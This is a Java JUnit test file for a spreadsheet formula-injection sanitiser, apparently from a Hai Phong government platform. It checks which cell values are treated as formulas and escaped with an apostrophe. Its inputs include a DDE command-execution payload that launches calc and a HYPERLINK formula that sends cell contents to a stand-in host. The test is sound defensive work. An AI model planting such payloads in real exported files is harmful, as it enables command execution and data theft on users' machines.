package vn.gov.haiphong.lgsp.common.text;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullAndEmptySource;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetFormulaTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0",
        "-2+3", "-cmd", "@SUM(A1:A9)", "\t=1", "\r=1", "=", "+", "-", "@", "- Phường", "+84 912"})
    void aCellASpreadsheetWouldRunIsAFormula(String cell) {
        assertTrue(SpreadsheetFormula.isFormula(cell), cell);
        assertEquals("'" + cell, SpreadsheetFormula.neutralised(cell));
    }

    @ParameterizedTest
    @NullAndEmptySource
    @ValueSource(strings = {"-5", "+84912345678", "-0.75", "12", "Xã An", "a=b", "Sở KH&CN", " =1", "'=1", "31"})
    void numbersAndTextAreNot(String cell) {
        assertFalse(SpreadsheetFormula.isFormula(cell), cell);
        assertEquals(cell, SpreadsheetFormula.neutralised(cell));
    }
}
